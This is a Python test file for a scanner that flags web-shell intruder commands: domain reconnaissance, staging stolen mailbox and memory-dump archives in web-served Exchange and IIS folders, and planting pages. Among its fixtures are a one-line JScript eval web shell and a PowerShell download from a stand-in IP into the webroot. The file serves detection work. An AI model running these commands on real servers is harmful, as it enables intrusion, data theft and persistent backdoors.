"""Fixed command lines of an intruder's first and last steps: surveying the account's privileges
and the domain (EXH-WS-CODE-RECON-COMMAND), packing files into an archive the web server serves
(EXH-WS-CODE-ARCHIVE-COMMAND), and writing a page by a command (EXH-WS-CODE-PERSIST-COMMAND).
No client data reaches any of them. Kept quiet: the same programs doing an application's work
(a backup written outside the web folders, a page copied as a page, output kept as text)."""

from __future__ import annotations

import pytest

from code_support import assert_benign, assert_found, cmd_page, cs_page, vb_page

RECON = "EXH-WS-CODE-RECON-COMMAND"
ARCHIVE = "EXH-WS-CODE-ARCHIVE-COMMAND"
PERSIST = "EXH-WS-CODE-PERSIST-COMMAND"


FOUND = [
    ("whoami", cmd_page("whoami /all"), RECON, "whoami /all"),
    ("domain-admins", cmd_page('net group \\"domain admins\\" /domain'), RECON, "net group"),
    ("trusts", cmd_page("nltest /domain_trusts"), RECON, "nltest"),
    ("domain-users", cmd_page("net user /domain > C:\\\\Users\\\\Public\\\\u.txt"), RECON, "net user /domain"),
    ("privileges", vb_page('Shell("cmd.exe /c whoami /priv > C:\\Windows\\Temp\\i.txt")'), RECON, "whoami /priv"),
    (
        "ad-cmdlet",
        cs_page(
            'System.Management.Automation.PowerShell.Create().AddScript("Get-ADComputer -Filter * | '
            'Select Name").Invoke();'
        ),
        RECON,
        "Get-ADComputer",
    ),
    (
        "7z-aspnet-client",
        cmd_page(
            "C:\\\\ProgramData\\\\7z.exe a -mx9 -pX C:\\\\inetpub\\\\wwwroot\\\\aspnet_client\\\\m.7z "
            "C:\\\\ProgramData\\\\*.pst"
        ),
        ARCHIVE,
        "aspnet_client",
    ),
    (
        "rar-owa",
        cmd_page(
            'rar.exe a -hpX \\"C:\\\\Program Files\\\\Microsoft\\\\Exchange Server\\\\V15\\\\FrontEnd'
            '\\\\HttpProxy\\\\owa\\\\auth\\\\x.rar\\" C:\\\\Windows\\\\Temp\\\\l.dmp'
        ),
        ARCHIVE,
        "HttpProxy",
    ),
    (
        "compress-archive",
        cs_page(
            'System.Diagnostics.Process.Start("powershell.exe", "-c Compress-Archive -Path C:\\\\Temp\\\\out '
            '-DestinationPath C:\\\\inetpub\\\\wwwroot\\\\o.zip");'
        ),
        ARCHIVE,
        "Compress-Archive",
    ),
    (
        "makecab",
        cmd_page("makecab C:\\\\Temp\\\\l.dmp C:\\\\inetpub\\\\wwwroot\\\\aspnet_client\\\\l.cab"),
        ARCHIVE,
        "makecab",
    ),
    (
        "echo-page",
        cmd_page('echo ^<%@ Page Language=\\"Jscript\\"%^>^<%eval(Request.Item[\\"z\\"],\\"unsafe\\");%^> > x.aspx'),
        PERSIST,
        "> x.aspx",
    ),
    (
        "certutil-decode",
        cmd_page("certutil -decode C:\\\\Temp\\\\a.txt C:\\\\inetpub\\\\wwwroot\\\\s.aspx"),
        PERSIST,
        "-decode",
    ),
    (
        "renamed-upload",
        cmd_page("copy C:\\\\inetpub\\\\wwwroot\\\\up\\\\a.jpg C:\\\\inetpub\\\\wwwroot\\\\up\\\\a.aspx"),
        PERSIST,
        "a.jpg",
    ),
    (
        "set-content",
        cs_page(
            'System.Diagnostics.Process.Start("powershell", "-c Set-Content -Path C:\\\\inetpub\\\\wwwroot\\\\h.ashx '
            '-Value (Invoke-WebRequest http://203.0.113.7/h).Content");'
        ),
        PERSIST,
        "h.ashx",
    ),
    (
        "page-into-owa-auth",
        cmd_page(
            "copy /y C:\\\\Windows\\\\Temp\\\\e.aspx "
            '\\"C:\\\\Program Files\\\\Microsoft\\\\Exchange Server\\\\V15\\\\FrontEnd\\\\HttpProxy\\\\owa\\\\auth\\\\\\"'
        ),
        PERSIST,
        "e.aspx",
    ),
    (
        "robocopy-into-aspnet-client",
        cmd_page("robocopy C:\\\\ProgramData\\\\x C:\\\\inetpub\\\\wwwroot\\\\aspnet_client\\\\system_web t.ashx"),
        PERSIST,
        "t.ashx",
    ),
]


@pytest.mark.parametrize(("name", "code", "rule_id", "shown"), FOUND, ids=[f[0] for f in FOUND])
def test_fixed_command_found(name: str, code: str, rule_id: str, shown: str) -> None:
    assert_found(f"{name}.aspx", code, rule_id, ["runs a command" if rule_id != PERSIST else "plants", shown])


LOOKALIKES = [
    ("backup-outside", cmd_page("7z.exe a C:\\\\Backups\\\\site.7z C:\\\\inetpub\\\\wwwroot")),
    ("pages-copied", cmd_page("xcopy /s /y C:\\\\Build\\\\*.aspx C:\\\\inetpub\\\\wwwroot\\\\")),
    # HTML handed to a converter's input: a tag's `>` before a page's name is no redirection
    (
        "html-to-pdf",
        cs_page(
            'var p = System.Diagnostics.Process.Start(new System.Diagnostics.ProcessStartInfo("wkhtmltopdf.exe", "- out.pdf")'
            " { RedirectStandardInput = true, UseShellExecute = false });\n"
            'p.StandardInput.Write("<p>See <b>Default.aspx</b></p>");'
        ),
    ),
    # prose written into a converter's input that happens to hold the words
    (
        "prose-to-pdf",
        cs_page(
            'var p = System.Diagnostics.Process.Start(new System.Diagnostics.ProcessStartInfo("wkhtmltopdf.exe", "- out.pdf")'
            " { RedirectStandardInput = true, UseShellExecute = false });\n"
            'p.StandardInput.Write("<p>Net group revenue rose; the NC office -c shared it</p>");'
        ),
    ),
    ("listing-as-text", cmd_page("dir C:\\\\inetpub\\\\wwwroot\\\\*.aspx > C:\\\\Temp\\\\pages.txt")),
    ("service-start", cs_page('System.Diagnostics.Process.Start("net.exe", "start w3svc");')),
    ("net-use", cmd_page("net use Z: \\\\\\\\files\\\\share")),
    # the host's own settings, as diagnostics pages show them
    ("diagnostics", cmd_page("ipconfig /all & systeminfo & tasklist & whoami & net user & net localgroup")),
]


@pytest.mark.parametrize(("name", "code"), LOOKALIKES, ids=[x[0] for x in LOOKALIKES])
def test_lookalike_not_reported(name: str, code: str) -> None:
    assert_benign(f"{name}.aspx", code)
